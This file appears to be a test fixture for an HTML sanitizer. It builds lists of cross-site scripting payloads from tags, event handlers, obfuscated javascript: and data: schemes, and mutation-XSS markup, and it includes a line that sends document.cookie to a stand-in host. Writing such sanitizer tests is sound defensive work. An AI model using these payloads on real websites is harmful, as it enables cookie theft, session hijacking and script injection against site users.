/**
 * Rich texts that would run scripts, load foreign content or leave the site if they were shown unsanitized: for the
 * test of the sanitizer and for a test in a real browser.
 */

const codes = ["alert(1)", "fetch('//x.example/'+document.cookie)", "top.location='//x.example'"];
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onanimationstart",
  "onpointerup",
];
const tags = ["img", "svg", "a", "p", "video", "details", "input", "body", "iframe", "math", "table", "b"];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  " javascript:",
  "\u0001javascript:",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,",
  "file:///",
  "//x.example/",
  "\\\\x.example\\",
  "blob:",
];

/** Tags × handlers × payloads. Each element is closed, so one text can contain several of them. */
export const handlerAttacks = tags.flatMap((tag) =>
  handlers.flatMap((handler) => codes.map((code) => `<${tag} src=x ${handler}="${code}">word</${tag}>`)),
);
/** URLs that run scripts or leave the site, in attributes that take a URL. Each element is closed. */
export const schemeAttacks = schemes.flatMap((scheme) =>
  codes.flatMap((code) => [
    `<a href="${scheme}${code}">word</a>`,
    `<img src="${scheme}${code}" alt="word">`,
    `<form action="${scheme}${code}"><button formaction="${scheme}${code}">word</button></form>`,
    `<iframe src="${scheme}${code}">word</iframe>`,
    `<svg><a xlink:href="${scheme}${code}"><text>word</text></a></svg>`,
    `<meta http-equiv="refresh" content="0;url=${scheme}${code}">`,
  ]),
);
/**
 * Unusual or broken markup, which a parser may repair in its own way. Some of these attacks hide the markup that
 * follows, so each attack must be alone in a text or at the end of a text.
 */
export const shapeAttacks = codes.flatMap((code) => [
  `<script>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<SCRIPT/SRC=//x.example>`,
  `<script\n>${code}</script\n>`,
  `<style>*{background:url(javascript:${code})}</style>`,
  `<p style="background:url(javascript:${code})">word</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<template><img src=x onerror=${code}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<![CDATA[><img src=x onerror=${code}>]]>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${code}>">`,
  `<link rel=stylesheet href=//x.example>`,
  `<base href="//x.example/">`,
  `<img src="/art/../../x" onerror=${code}>`,
  `<img src="https://x.example/pixel.png">`,
  `<a href="https://x.example" target="_top" onclick="${code}">word</a>`,
  `<x onclick=${code}>word</x>`,
  `"><img src=x onerror=${code}>`,
  `<p/onclick=${code}>word`,
  `<p onclick\u000c=${code}>word`,
  `<b\u0000 onmouseover=${code}>word</b>`,
]);
